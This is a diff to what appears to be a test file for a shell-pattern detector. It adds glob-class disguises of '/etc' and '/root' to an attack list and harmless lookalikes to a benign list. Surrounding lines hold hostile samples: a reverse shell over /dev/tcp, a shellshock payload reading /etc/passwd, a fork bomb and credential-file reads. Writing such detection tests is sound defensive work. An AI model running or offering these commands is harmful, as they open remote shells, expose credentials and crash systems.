@@ -57,6 +57,9 @@ const attacks: [string, string][] = [
   ["unknown program with arguments", "/usr/local/bin/payment --dump /etc/shadow"],
   ["globbed binary", "/???/??t /???/p??s??"],
   ["glob classes", "cat /etc/pa[s]swd"],
+  // a first segment that a glob class made `?` and otherwise spells a system directory
+  ["system directory behind a glob class", "/[e///]tc"],
+  ["another system directory behind a glob class", "/[r///]oot"],
   ["reverse shell", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"],
   ["shellshock", "() { :; }; echo ; /bin/bash -c 'cat /etc/passwd'"],
   ["fork bomb", ":(){ :|:& };:"],
@@ -108,6 +111,9 @@ const attacks: [string, string][] = [
 ];
 
 const benign: [string, string][] = [
+  // (a glob class in a first segment that spells no system directory)
+  ["bracket class before no system directory", "/[z///]zz"],
+  ["bracket class before a longer name", "/[t///]mpx"],
   ["an application binary in a pod spec command list", "/usr/local/bin/grpc_health_probe"],
   // JSONPath roots (shell-patterns.ts jsonPathRoot)
   ["JSONPath filter", "$[?(@.price < 10)].title"],
